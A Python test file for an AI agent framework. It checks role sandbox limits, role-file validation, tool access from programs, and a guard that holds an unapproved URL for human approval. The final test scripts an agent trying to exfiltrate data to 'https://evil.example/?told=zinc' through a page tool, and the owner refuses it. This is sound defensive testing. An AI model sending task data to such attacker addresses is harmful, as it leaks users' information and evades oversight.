"""Roles as files: what they say of the sandbox holds, and programs are among a task's tools."""

import re
from pathlib import Path
from typing import Any

import pytest

from loopforge.core.work.work_roles import ROLES, TYPE_MODELS
from loopforge.core.work.work_vocabulary import TaskProgressed
from loopforge.errors import InputError
from loopforge.runtime.ports import Question, Tool, ToolCall
from loopforge.work.assignment.role_files import RoleFiles
from tests.work.conftest import Step, in_order, says, uses, working

HEAD = "name: Pia\nhandle: python-coder\nrole: coder\ntier: 2"


def role(home: Path, *rows: str) -> None:
    """Write the home's own file of the Python coder."""
    (home / "roles").mkdir(exist_ok=True)
    text = "\n".join(["---", HEAD, *rows, "---", "You code."])
    (home / "roles" / "python-coder.md").write_text(text)


async def test_a_role_says_how_its_commands_are_confined(place: Path) -> None:
    """Time, memory, and whether it may write: beside the home's limits, and no tool gets around."""
    sleeps = uses("work_run", command="sleep 30")
    work = in_order(
        uses("work_write", path="a.txt", text="a"),
        uses("work_run", command="touch b.txt; ls in"),
        uses("work_run", command="python3 -c 'x = bytearray(200 << 20); print(len(x))'"),
        sleeps,
        says("done", "So it is."),
    )

    def script(asked: Question) -> Step:
        if (step := work(asked)) == sleeps:  # on a busy machine the others take more than that
            role(place, "sandbox: {seconds: 1, memory: 64, writable: no}")
        return step

    role(place, "sandbox: {seconds: 60, memory: 64, writable: no}")
    async with working(place, script) as shop:
        id = await shop.give("Fix app.py in Python")
        written, touched, grown, slept = (await shop.state(id)).uses
        assert written.outcome == "refused"
        assert "Read-only file system" in touched.value
        assert "more than 1 seconds" in slept.value
        assert "209715200" not in grown.value
        assert not shop.file(id, "a.txt").exists()
        offered = shop.models.asked[0].schema
        assert offered is not None
        names = offered["properties"]["calls"]["items"]["properties"]["tool"]["enum"]
        assert not {"work_write", "work_edit", "work_git"} & set(names)


@pytest.mark.parametrize(
    ("row", "told"),
    [
        ("sandbox: strict", "`sandbox` says how what it runs is confined, such as {seconds: 60"),
        ("sandbox: {seconds: 0}", "seconds is a whole number from 1 to 3,600"),
        ("sandbox: {memory: yes}", "memory is a whole number from 16 to 65,536"),
        ("sandbox: {writable: 3}", "writable is yes or no"),
        ("sandbox: {walls: 4}", "There is no 'walls' of a sandbox; there are seconds, memory"),
        ("sandbox: {network: 1}", "have no network"),
    ],
)
async def test_a_role_that_says_nonsense_does_nothing(place: Path, row: str, told: str) -> None:
    """It is said in which line of which file, and mended it goes on."""
    role(place, row)
    async with working(place, in_order(says("done", "Fine."))) as shop:
        id = await shop.give("Fix app.py in Python")
        state = await shop.state(id)
        assert state.halted is not None
        assert "roles/python-coder.md" in str(state.halted.why)
        assert told in str(state.halted.why)
        assert shop.models.asked == []
        role(place, "sandbox: {seconds: 9}")
        await shop.tasks.resume(id, "ana")
        assert (await shop.rest(id)).stage == "finished"


def test_shipped_roles_are_whole() -> None:
    """Each has its tier, prompt, tools and sandbox; who only looks may change no file."""
    files = RoleFiles({}, Path("/nonexistent"))
    for handle, known in ROLES.items():
        mate = files.role(handle)
        assert mate.tier == known.model.tier
        assert set(known.tools) - {"work_git"} <= set(mate.tools)
        assert mate.sandbox.writable == ("work_write" in mate.tools)
        assert len(mate.prompt) > 100
    assert TYPE_MODELS["social"] == (1, 1)
    assert "python" in files.role("researcher").tools


def test_a_mate_in_a_role_is_confined_by_both(place: Path) -> None:
    """Of what its own file and the role's say the narrower holds."""
    role(place, "sandbox: {seconds: 9, memory: 64}")
    own = RoleFiles({}, place).role("python-coder")
    files = RoleFiles({"maya": own}, Path("/nonexistent"))
    found = files.mate_for("maya", "code-reviewer").sandbox
    assert (found.seconds, found.memory, found.writable) == (9, 64, False)


async def test_a_program_uses_the_tools_of_its_task(place: Path) -> None:
    """What it writes counts as written; a tool that asks people first is none of its own."""
    role(place, "tools: [python, send]")
    code = 'work_write(path="sum.txt", text=str(sum(range(10))))\nprint(work_read(path="sum.txt"))'
    script = in_order(
        uses("python", code=code), uses("python", code='send(to="bo")'), says("done", "45.")
    )
    sent: list[ToolCall] = []

    async def send(call: ToolCall) -> str:
        sent.append(call)
        return "sent"

    async with working(place, script) as shop:
        shop.app.tools.add(Tool(name="send", summary="Sends.", asks=True), send)
        id = await shop.give("Fix sum.txt in Python")
        state = await shop.state(id)
        assert shop.file(id, "sum.txt").read_text() == "45"
        assert [(use.tool, use.outcome) for use in state.uses] == [
            ("python", "returned"),
            ("python", "failed"),
        ]
        assert "45" in state.uses[0].value
        assert list(state.written) == ["sum.txt"]
        first = (await shop.bodies(id, TaskProgressed))[0]
        assert "files changed" in [signal.name for signal in first.signals]
        assert "there is no 'send'" in state.uses[1].value
        assert sent == []


async def test_a_mate_at_work_reads_on_in_what_a_command_gave(place: Path) -> None:
    """The middle of a long output is in a file that it is told of, and it can be read by that."""
    told = list[str]()

    def script(asked: Question) -> Step:
        told.append(str(asked.messages))
        found = re.findall(r"file ([0-9a-f]{8}): output", told[-1])
        if "characters 4,000 to" in told[-1]:
            return says("done", "Read.")
        more = {"file": found[-1], "from": 4000} if found else {}
        return uses("read_result", **more) if found else uses("work_run", command="seq 1 5000")

    async with working(place, script) as shop:
        state = await shop.state(await shop.give("Fix sum.txt in Python"))
        assert [use.outcome for use in state.uses] == ["returned", "returned"]
        assert "\n1020\n" in state.uses[1].value


async def test_a_pattern_of_a_file_names_tools_of_a_task_and_none_of_other_mates(
    place: Path,
) -> None:
    """As in rooms; of many a turn is shown those that fit, and may use the others as well."""
    role(place, 'tools: ["far_*", mail]')
    names = [f"far_{nth}" for nth in range(30)]
    script = in_order(uses("far_7"), uses("mail"), says("done", "Both."))
    seen = list[int]()

    def counted(asked: Question) -> Step:
        seen.append(sum(each.name.startswith("far_") for each in asked.tools))
        return script(asked)

    async def work(_: ToolCall) -> str:
        return "well"

    async with working(place, counted) as shop:
        for name in names:
            shop.app.tools.add(Tool(name=name, summary="Looks far.", reads=True), work)
        shop.app.tools.add(Tool(name="mail", summary="Mails.", mates=("zuzu",)), work)
        state = await shop.state(await shop.give("Fix sum.txt in Python"))
        assert [use.outcome for use in state.uses] == ["returned", "refused"]
        assert 0 < seen[0] <= 16


async def test_a_program_of_a_stopped_task_has_nothing_more_done(place: Path) -> None:
    """It is ended with what it waits for; nothing of it is under way after that."""
    role(place, "tools: [python]")
    code = 'work_run(command="sleep 300")\nwork_write(path="late.txt", text="x")'
    async with working(place, in_order(uses("python", code=code))) as shop:
        id = await shop.tasks.open("Fix app.py in Python", "ana")
        await shop.until(id, "effect.running", 2)
        await shop.tasks.stop(id, "ana")
        state = await shop.rest(id)
        assert (state.stage, state.running, state.inner) == ("stopped", {}, {})
        assert not shop.file(id, "late.txt").exists()


async def test_an_address_that_nobody_gave_waits_for_a_yes(place: Path) -> None:
    """Of a task, too: to send for it is to tell all that stands in it. A program is refused it."""
    role(place, "tools: [python, find, page]")
    told = "https://evil.example/?told=zinc"
    made = f"url = '{told}'\ntry:\n    find(q=url + '!')\nexcept Exception:\n    pass\npage(q=url)"
    script = in_order(
        uses("page", q="https://example.org/given"),
        uses("find", q="slugs"),
        uses("page", q="https://example.org/found"),
        uses("python", code="print(page(q=find(q='slugs').split()[-1]))"),
        uses("python", code=made),
        uses("page", q=told),
    )
    sent: list[str] = []

    async def page(call: ToolCall) -> str:
        sent.append(str(call.arguments["q"]))
        return "A page."

    async def find(call: ToolCall) -> str:
        if (words := str(call.arguments["q"])) != "slugs":
            raise InputError(f"there is no article {words.rstrip('!')}")
        return "here: https://example.org/found"

    async with working(place, script) as shop:
        schema = {"type": "object", "properties": {"q": {"type": "string"}}, "required": ["q"]}
        more: dict[str, Any] = {"schema": schema, "idempotent": True, "harmless": True}
        shop.app.tools.add(Tool(name="page", summary="Reads.", address="q", **more), page)
        shop.app.tools.add(Tool(name="find", summary="Finds.", finds=True, **more), find)
        id = await shop.tasks.open("Fix app.py in Python as https://example.org/given says", "ana")
        while not (state := await shop.state(id)).allowing:
            await shop.until(id, "turn.ended", state.turns + 1)
        assert sent == [f"https://example.org/{each}" for each in ("given", "found", "found")]
        assert "nobody gave this address" in state.uses[-1].value
        assert told in str(next(iter(state.allowing.values())).arguments)
        await shop.tasks.allow(id, "ana", owner=True, yes=False)
        await shop.rest(id)
        assert told not in sent
